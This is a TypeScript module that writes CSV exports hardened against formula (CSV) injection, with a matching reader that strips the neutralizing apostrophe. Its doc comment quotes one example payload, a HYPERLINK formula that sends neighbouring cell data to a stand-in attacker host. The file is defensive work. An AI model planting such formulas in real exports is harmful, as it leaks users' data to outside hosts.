import { stringify as stringifyStream, type Options as StringifyOptions, type Stringifier } from 'csv-stringify';
import { stringify } from 'csv-stringify/sync';
import { parse } from 'csv-parse/sync';

/**
 * Formula-safe CSV (OWASP "CSV Injection"; case B19). A spreadsheet (Excel, LibreOffice Calc,
 * Google Sheets, Numbers) that opens a CSV runs a cell starting with `=`, `+`, `-` or `@` (and, after
 * its own trimming, a tab or CR) as a formula: `=HYPERLINK("https://evil.example/?"&B2, …)` sends
 * the neighbouring cells away when clicked. Every text cell we write is therefore
 * **neutralized**: when it starts with one of
 *
 *   `=` `+` `-` `@` TAB (U+0009) CR (U+000D) LF (U+000A), or their full-width forms `＝` `＋` `－` `＠`
 *   (Apple Numbers folds these to ASCII),
 *
 * — also after leading spaces, no-break spaces or apostrophes, so that trimming on import cannot
 * uncover one — a single `'` is put in front. The spreadsheet then shows text. So a phone number
 * `+442079460123` in a text column is written `'+442079460123`; "Solidaritätskreis" is unchanged.
 *
 * **Numbers we produce** (amounts such as `-12.34` in a ledger export) must stay numbers: declare
 * such a column `type: 'number'`. Its cells are written unquoted and untouched, and only take a
 * finite JS number, a bigint, or a decimal string `-?digits[.digits]` — anything else (user text,
 * `+5`, `=1`) throws, so the mark cannot smuggle text past the neutralization. A negative amount
 * in a ledger column is legitimate; user text never goes into a `number` column.
 *
 * **Output**: UTF-8, comma-separated, CRLF after every record (RFC 4180 §2), every cell quoted
 * except plain decimal numbers (so a `;` or tab in a cell cannot split it for a spreadsheet that
 * guesses another separator; a number reads the same quoted or not), a
 * header row (neutralized like any text), and by default a UTF-8 byte order mark so that Excel reads
 * the file as UTF-8 rather than the system code page (`bom: false` for machine consumers).
 *
 * **Reading our own export back**: {@link readSafeCsv} / {@link unneutralize} remove exactly the one
 * `'` that {@link neutralize} added, so `readSafeCsv(toSafeCsv(rows))` gives back the original
 * strings exactly (numbers come back as their text).
 */

/** Starts with a character a spreadsheet may run as a formula, possibly behind spaces or apostrophes. */
const NEEDS_NEUTRALIZING = /^[ \u00a0']*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
/** A trusted decimal: optional minus, digits without a leading zero, optional fraction. */
const DECIMAL = /^-?(0|[1-9][0-9]*)(\.[0-9]+)?$/;
const NOT_DECIMAL = /^(?!-?(0|[1-9][0-9]*)(\.[0-9]+)?$)/;

/**
 * A cell as written: `'` + `value` when `value` could be read as a formula (see the module docs),
 * else `value` unchanged.
 */
export function neutralize(value: string): string {
  return NEEDS_NEUTRALIZING.test(value) ? `'${value}` : value;
}

/**
 * The inverse of {@link neutralize} for a cell of our own export: removes one leading `'` when what
 * follows it would have been neutralized (e.g. `'=1` → `=1`, `''=1` → `'=1`), and leaves every other
 * cell as it is (`'hello` stays `'hello`). `unneutralize(neutralize(v)) === v` for every string.
 */
export function unneutralize(cell: string): string {
  return cell.startsWith("'") && NEEDS_NEUTRALIZING.test(cell.slice(1)) ? cell.slice(1) : cell;
}

/** One column of an export. */
export interface CsvColumn {
  /** Property of the row objects. */
  key: string;
  /** Header label (translated by the caller); neutralized like any text. */
  header: string;
  /**
   * `text` (default): any value, written as neutralized, quoted text.
   * `number`: a value our code computed — finite number, bigint or decimal string `-?d+(.d+)?` —
   * written as is and unquoted so spreadsheets read a number; anything else throws a TypeError.
   */
  type?: 'text' | 'number';
}

export interface SafeCsvOptions {
  columns: readonly CsvColumn[];
  /** Write the UTF-8 byte order mark (default true: Excel needs it to read UTF-8). */
  bom?: boolean;
  /** Write the header row (default true). */
  header?: boolean;
}

/** csv-stringify options that neutralize text cells and check `number` cells. */
function stringifyOptions(o: SafeCsvOptions): StringifyOptions {
  const numeric = new Set(o.columns.filter((c) => c.type === 'number').map((c) => c.key));
  const number = (value: string, column: unknown) => {
    if (!DECIMAL.test(value)) throw new TypeError(`CSV column ${String(column)} is a number column; got ${JSON.stringify(value)}`);
    return value;
  };
  return {
    bom: o.bom ?? true,
    header: o.header ?? true,
    columns: o.columns.map((c) => ({ key: c.key, header: c.header })),
    delimiter: ',',
    record_delimiter: 'windows',
    // Every cell but a plain decimal number is quoted; an empty text cell is written "" (a missing
    // value stays empty), so a row is never a blank line.
    quoted_match: NOT_DECIMAL,
    cast: {
      string: (value, ctx) => (ctx.header || !numeric.has(ctx.column as string) ? neutralize(value) : number(value, ctx.column)),
      number: (value, ctx) => {
        if (!numeric.has(ctx.column as string)) return neutralize(String(value));
        if (!Number.isFinite(value)) throw new TypeError(`CSV column ${String(ctx.column)} got ${value}`);
        // Plain notation for the values we export (minor-unit sums stay far below 1e21).
        return number(Object.is(value, -0) ? '0' : String(value), ctx.column);
      },
      bigint: (value, ctx) => (numeric.has(ctx.column as string) ? number(value.toString(), ctx.column) : neutralize(value.toString())),
      boolean: (value, ctx) => {
        if (numeric.has(ctx.column as string)) throw new TypeError(`CSV column ${String(ctx.column)} is a number column; got a boolean`);
        return String(value);
      },
      date: (_value, ctx) => {
        throw new TypeError(`CSV column ${String(ctx.column)}: pass dates as YYYY-MM-DD or ISO 8601 strings`);
      },
      object: (_value, ctx) => {
        throw new TypeError(`CSV column ${String(ctx.column)}: objects cannot be written to a cell`);
      },
    },
  };
}

/**
 * The whole CSV text of `rows` (objects with the columns' keys; missing/null values are empty cells).
 * @throws {TypeError} for a `number` cell that is not a number (see {@link CsvColumn}), a Date or an object.
 */
export function toSafeCsv(rows: readonly Record<string, unknown>[], o: SafeCsvOptions): string {
  return stringify(rows as Record<string, unknown>[], stringifyOptions(o));
}

/**
 * A transform stream for large exports: write row objects, read CSV text (same output as
 * {@link toSafeCsv}). A bad `number` cell makes the stream emit a TypeError.
 */
export function safeCsvStream(o: SafeCsvOptions): Stringifier {
  return stringifyStream(stringifyOptions(o));
}

/**
 * Reads a CSV written by {@link toSafeCsv} (or any RFC 4180 file): a leading BOM is skipped, CRLF or
 * LF accepted, and every cell is {@link unneutralize}d, headers included.
 * @returns the records as arrays of strings, the header row first; with `columns: true`, objects
 *   keyed by the header row.
 * @throws csv-parse's `CsvError` for malformed CSV (its message names the line), e.g. a record with
 *   another number of fields than the first.
 */
export function readSafeCsv(input: string | Buffer): string[][];
export function readSafeCsv(input: string | Buffer, o: { columns: true }): Record<string, string>[];
export function readSafeCsv(input: string | Buffer, o: { columns?: boolean } = {}): string[][] | Record<string, string>[] {
  const records = (parse(input, { bom: true, skip_empty_lines: true }) as string[][]).map((r) => r.map(unneutralize));
  if (!o.columns) return records;
  const [header = [], ...rest] = records;
  return rest.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]!])));
}
